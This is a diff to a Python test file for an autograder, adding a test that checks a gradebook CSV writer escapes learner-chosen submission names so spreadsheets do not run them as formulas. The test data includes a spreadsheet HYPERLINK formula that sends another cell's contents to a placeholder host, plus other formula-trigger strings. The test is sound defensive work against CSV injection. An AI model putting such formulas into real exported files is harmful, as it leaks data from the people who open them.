@@ -25,6 +25,7 @@ from grader.reports.junit import junit_xml
 from grader.reports.prairielearn import SIZE_LIMIT, prairielearn_results
 from grader.reports import report as score_report
 from grader.reports.report import ModuleInfo, ScoreReport, TaskResult, write_report
+from grader.reports.summary import Entry, write_gradebook
 from grader.running import runner
 from grader.tasks import COURSE_ROOT, SOLUTIONS, task_named
 
@@ -282,6 +283,19 @@ def test_class_summary_from_a_folder_of_reports(report, tmp_path):
     page = (batch / "class.html").read_text()
     assert page.count('class="lost-concept"') == 4 and page.count('class="submission-row"') == 2
     assert "data:image/png;base64," in page and "carol: unreadable" in page
+
+
+def test_gradebook_cells_never_run_as_formulas(report, tmp_path):
+    """A learner names the submission (its folder, its zip); a spreadsheet opening summary.csv
+    must show that name, not run it."""
+    named = '=HYPERLINK("http://example.invalid?q="&C2,"feedback")'
+    entries = [Entry(named, f"-{named}", report), Entry("@SUM(1+1)", "+1", None, "\tbroken"), Entry("bob", "/subs/bob", report)]
+    write_gradebook(tmp_path / "summary.csv", entries)
+    with open(tmp_path / "summary.csv") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["submission"], r["path"]) for r in rows] == [("'" + named, "'-" + named), ("'@SUM(1+1)", "'+1"),
+                                                            ("bob", "/subs/bob")]
+    assert rows[1]["status"] == "unreadable: \tbroken" and float(rows[0]["points"]) == report.total.points
 
 
 # ---------------------------------------------------------------- what gradings put in the report
